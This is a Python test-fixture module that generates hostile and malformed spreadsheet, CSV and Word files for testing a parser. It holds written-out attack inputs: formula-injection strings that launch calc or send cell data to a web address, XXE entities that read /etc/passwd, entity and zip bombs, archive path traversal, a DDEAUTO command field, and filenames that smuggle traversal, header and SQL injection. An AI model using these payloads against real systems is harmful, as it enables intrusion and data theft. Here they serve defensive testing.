"""More than two hundred hostile or broken files, as people and machines hand them in: name and bytes of each."""

import gzip
import random
from collections.abc import Iterator

from tests.core.tables.making import (
    MAIN,
    csv,
    docx,
    flagged,
    lying,
    ods,
    ods_row,
    packed,
    raw_docx,
    raw_xlsx,
    word_text,
    xlsx,
)

File = tuple[str, bytes]
ROWS = [["Tipo", "Sintesi", "Urgenza"], *(["Fabbisogno", f"Mancano tecnici, caso {n}.", n % 5 + 1] for n in range(30))]
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000
MEGABYTES_60 = 60_000_000
TABLE, END = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
CELL = '<c r="{}"><v>1</v></c>'.format
ENTITIES = (
    '<!DOCTYPE d [<!ENTITY a "ha ha ha ha ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org","clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=IMPORTXML("https://example.org","//a")',
    "\t=1+1",
    "＝1+1",
    '=WEBSERVICE("https://example.org/"&A1)',
)


def files() -> Iterator[File]:
    """Yield every file; the honest ones that they are made from are among them."""
    whole = {"xlsx": xlsx(ROWS), "ods": ods("".join(ods_row(*map(str, row)) for row in ROWS))}
    whole["docx"] = docx(*(row[1] for row in ROWS), tables=[[[str(cell) for cell in row] for row in ROWS]])
    yield from cut_and_spoilt(whole)
    yield from under_another_name(whole)
    yield from encodings()
    yield from delimited()
    yield from workbooks()
    yield from open_documents()
    yield from word_documents()
    yield from names(whole["xlsx"])


def cut_and_spoilt(whole: dict[str, bytes]) -> Iterator[File]:
    """Truncated at many places, and with some bytes changed."""
    chance = random.Random(2025)
    for kind, data in whole.items():
        for part in range(1, 16):
            yield f"tagliato-{part}.{kind}", data[: len(data) * part // 16]
        for number in range(15):
            spoilt = bytearray(data)
            for _change in range(1 + number):
                spoilt[chance.randrange(len(spoilt))] = chance.randrange(256)
            yield f"guasto-{number}.{kind}", bytes(spoilt)


def under_another_name(whole: dict[str, bytes]) -> Iterator[File]:
    others = {
        "pdf": b"%PDF-1.7\n" + b"x" * 3000,
        "png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8,
        "html": b"<html><script>alert(1)</script></html>",
        "rtf": b"{\\rtf1 Testo}",
        "exe": b"MZ" + bytes(3000),
        "ole": COMPOUND,
        "gz": gzip.compress(b"Tipo;Frase\n" * 100),
        "zip": packed({"a.txt": "a"}),
        "empty": b"",
        "zeros": bytes(10_000),
    }
    for source, data in (whole | others).items():
        for suffix in ("xlsx", "ods", "docx", "csv"):
            yield f"era-{source}.{suffix}", data
    for suffix in ("xls", "doc", "docm", "xlsm", "xlsb", "odt", "pdf", "rtf", "zip", "exe", "svg", "html", ""):
        yield f"altro.{suffix}", whole["xlsx"]


def encodings() -> Iterator[File]:
    text = "Tipo;Sintesi\nFabbisogno;Perché è così: «qualità» €\n"
    for name in ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1252", "mac_roman", "utf-7"):
        yield f"codifica-{name}.csv", text.encode(name)
    yield "codifica-latina.csv", text.replace("€", "E").encode("latin-1")
    yield "codifica-giapponese.csv", "Tipo;Sintesi\nF;日本語\n".encode("shift_jis")
    yield "codifica-rotta.csv", b"Tipo;Sintesi\nF;\xc3\x28\xa0\xa1\xe2\x28\n"
    yield "meta-surrogato.csv", b"\xff\xfeT\x00;\x00\x00\xd8\n\x00"


def delimited() -> Iterator[File]:
    for number, formula in enumerate(FORMULAS):
        yield f"formula-{number}.csv", csv("Tipo;Sintesi;Competenza", f'F;"{formula.replace(chr(34), chr(34) * 2)}";x')
    yield "centomila-righe.csv", csv("Tipo;Sintesi", *["F;Frase."] * 100_000)
    yield "una-riga-lunga.csv", csv("Tipo;Sintesi", "F;" + "x" * 4_000_000)
    yield "molte-colonne.csv", csv(";".join(["Tipo"] * 5_000), ";".join(["F"] * 5_000))
    yield "virgolette-aperte.csv", csv("Tipo;Sintesi", 'F;"mai chiuse', *["F;x"] * 3_000)
    yield "solo-intestazione.csv", csv("Tipo;Sintesi")
    yield "solo-a-capo.csv", b"\n" * 50_000
    yield "nulli.csv", b"Tipo;Sintesi\nF;\x00\x00\n"
    yield "troppo-pesante.csv", b"x" * 5_000_001
    yield "sep.csv", b"sep=;\nTipo;Sintesi\nF;Frase.\n"
    yield "a-capo-misti.csv", b"Tipo;Sintesi\rF;Uno.\nF;Due.\r\nF;Tre."
    yield "invisibili.csv", "Tipo;Sintesi\nF;\u202e\u200b\ufefftesto\u0007 al contrario\n".encode()


def workbooks() -> Iterator[File]:
    def also(change):
        return xlsx(ROWS, change)

    text = "Tipo;Sintesi"
    yield "macro.xlsx", raw_xlsx("", more={"xl/vbaProject.bin": b"x"})
    yield "foglio-macro.xlsx", raw_xlsx("", more={"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "collegamenti.xlsx", raw_xlsx(f"<row>{CELL('A1')}</row>", more={"xl/externalLinks/externalLink1.xml": "<a/>"})
    yield "formule.xlsx", also(lambda book, sheet: [sheet.append(["F", formula, "=1+4"]) for formula in FORMULAS])
    yield "celle-unite.xlsx", also(lambda book, sheet: sheet.merge_cells("A2:A20"))
    yield "titolo-unito.xlsx", xlsx([["Tavolo"], *ROWS], lambda book, sheet: sheet.merge_cells("A1:C1"))
    yield "nascosto.xlsx", also(lambda book, sheet: setattr(sheet, "sheet_state", "hidden") or book.create_sheet("a"))
    yield "centomila-righe.xlsx", raw_xlsx("".join(f"<row><c><v>{n}</v></c></row>" for n in range(100_000)))
    yield "cella-lontana.xlsx", raw_xlsx(f"<row>{CELL('A1')}{CELL('XFD1')}</row><row>{CELL('A1048576')}</row>")
    yield "riferimenti-falsi.xlsx", raw_xlsx(f"<row>{CELL('1A')}{CELL('A0')}{CELL('-1')}</row>")
    yield "numeri-strani.xlsx", raw_xlsx("<row><c><v>1e999</v></c><c><v>NaN</v></c><c><v>-</v></c></row>" * 2)
    yield "entita.xlsx", raw_xlsx("", strings=f"{ENTITIES}<sst xmlns='{MAIN}'><si><t>&d;</t></si></sst>")
    yield "entita-di-fuori.xlsx", raw_xlsx("", strings=f"{OUTSIDE}<sst xmlns='{MAIN}'><si><t>&x;</t></si></sst>")
    yield "bomba.xlsx", raw_xlsx(" " * MEGABYTES_60)
    yield "bomba-che-mente.xlsx", lying(raw_xlsx(" " * MEGABYTES_60), "xl/worksheets/sheet1.xml", declared=500)
    shared = f"<sst xmlns='{MAIN}'><si><t>{'x' * 3_900}</t></si></sst>"
    yield "testo-ripetuto.xlsx", raw_xlsx("<row>" + '<c t="s"><v>0</v></c>' * 30 + "</row>" * 1, strings=shared)
    yield "testi-ripetuti.xlsx", raw_xlsx(("<row>" + '<c t="s"><v>0</v></c>' * 30 + "</row>") * 3_000, strings=shared)
    yield "profondo.xlsx", raw_xlsx("<a>" * 100_000 + "</a>" * 100_000)
    yield "password.xlsx", COMPOUND
    yield "cifrato.xlsx", flagged(xlsx(ROWS))
    yield "molte-parti.xlsx", packed({"[Content_Types].xml": "<a/>"} | {f"xl/{n}.xml": "<a/>" for n in range(1_000)})
    yield "zip-in-zip.xlsx", packed({"[Content_Types].xml": "<a/>", "xl/a.zip": packed({"b": "b" * 10_000})})
    yield "percorsi.xlsx", raw_xlsx("", more={"../../../etc/passwd": "x", "/abs": "x"})
    yield "due-volte.xlsx", raw_xlsx("", more={"xl/worksheets/SHEET1.xml": "<a/>"})
    yield "senza-fogli.xlsx", packed({"[Content_Types].xml": "<Types/>"})
    yield "utf-16-non-detto.xlsx", raw_xlsx(text.encode("utf-16-le").decode("latin-1").replace("\x00", ""))
    yield "controlli.xlsx", raw_xlsx("<row><c t='inlineStr'><is><t>a&#x1;b</t></is></c></row>")


def open_documents() -> Iterator[File]:
    head = ods_row("Tipo", "Sintesi")
    yield "righe-ripetute.ods", ods(head + ods_row("F", "Frase.", repeated=1_000_000))
    yield "righe-ripetute-poche.ods", ods(head + ods_row("F", "Frase.", repeated=900))
    yield "righe-negative.ods", ods(head + ods_row("F", "Frase.", repeated=-5))
    yield "macro.ods", ods(head, more={"Basic/Standard/Module1.xml": "<a/>"})
    yield "altro-tipo.ods", ods(head, mimetype="application/vnd.oasis.opendocument.text")
    yield "password.ods", ods(head, more={"META-INF/manifest.xml": "<m><encryption-data/></m>"})
    yield "bomba.ods", ods(" " * MEGABYTES_60)
    yield "formule.ods", ods(head + '<table:table-row><table:table-cell table:formula="of:=1+1"/></table:table-row>')
    yield "colonne-ripetute.ods", ods(head.replace("cell ", 'cell table:number-columns-repeated="16000" '))
    yield "codifica-ignota.ods", packed({"content.xml": '<?xml version="1.0" encoding="ebcdic-x"?><a/>'})


def word_documents() -> Iterator[File]:
    cell = f"<w:tc>{word_text('x')}</w:tc>"
    yield "entita.docx", raw_docx(word_text("&d;"), before=ENTITIES)
    yield "entita-di-fuori.docx", raw_docx(word_text("&x;"), before=OUTSIDE)
    yield "dtd-di-fuori.docx", raw_docx("", before='<!DOCTYPE d SYSTEM "http://example.org/d.dtd">')
    yield "bomba.docx", raw_docx(" " * MEGABYTES_60)
    yield "bomba-che-mente.docx", lying(raw_docx(" " * MEGABYTES_60), "word/document.xml", declared=500)
    yield "centomila-paragrafi.docx", raw_docx(word_text("x") * 100_000)
    yield "quattromila-paragrafi.docx", raw_docx(word_text("Una frase.") * 4_000)
    yield "paragrafi-vuoti.docx", raw_docx("<w:p/>" * 300_000)
    yield "un-paragrafo-lungo.docx", raw_docx(word_text("x" * 30_000_000))
    yield "molti-pezzi.docx", raw_docx("<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 120_000 + "</w:p>")
    yield "profondo.docx", raw_docx("<w:sdt>" * 150_000 + "</w:sdt>" * 150_000)
    yield "tabelle-annidate.docx", raw_docx(TABLE * 20_000 + word_text("x") + END * 20_000)
    yield "tabella-larga.docx", raw_docx(f"<w:tbl><w:tr>{cell * 20_000}</w:tr></w:tbl>")
    for number, span in enumerate(("tanti", 10**12, -3)):
        merged = f'<w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{word_text("x")}'
        yield f"unione-{number}.docx", raw_docx(f"{TABLE}{merged}{END}")
    yield "tag-scompagnati.docx", raw_docx("<w:p><w:r></w:p></w:r>")
    yield "fuori-posto.docx", raw_docx("<w:tc><w:pStyle w:val='Titolo1'/><w:t>x</w:t></w:tc><w:numPr/><w:b/>")
    yield "senza-corpo.docx", packed({"[Content_Types].xml": "<Types/>", "word/styles.xml": "<a/>"})
    yield "macro.docx", raw_docx("", more={"word/vbaProject.bin": b"x"})
    yield "modello-di-fuori.docx", raw_docx(word_text("Frase."), more={"word/_rels/settings.xml.rels": "<a/>"})
    yield "pezzo-esterno.docx", raw_docx('<w:altChunk r:id="a" xmlns:r="r"/>' + word_text("Frase."))
    field = "<w:p><w:r><w:instrText>DDEAUTO cmd calc</w:instrText></w:r></w:p>"
    yield "campo.docx", raw_docx(field + word_text("Frase."))
    yield "cifrato.docx", flagged(docx("Frase."))
    yield "password.docx", COMPOUND
    yield "codifica-ignota.docx", raw_docx("", before='<?xml version="1.0" encoding="ebcdic-x"?>')
    yield "byte-falsi.docx", packed({"[Content_Types].xml": "<a/>", "word/document.xml": b"<d>\xff\xfe\x00</d>"})
    yield "vuoto.docx", docx()


def names(data: bytes) -> Iterator[File]:
    for name in (
        "../../etc/passwd.xlsx",
        "..\\..\\windows\\system.xlsx",
        "<script>alert(1)<.xlsx",
        "a" * 300 + ".xlsx",
        "doppio.exe.xlsx",
        "tavolo.xlsx.exe",
        "al-contrario\u202exslx.xlsx",
        "MAIUSCOLO.XLSX",
        " spazi .xlsx",
        ".xlsx",
        "senza",
        "a\r\nX-Header: b.xlsx",
        "%2e%2e%2f.xlsx",
        "'; DROP TABLE x; --.xlsx",
    ):
        yield name, data
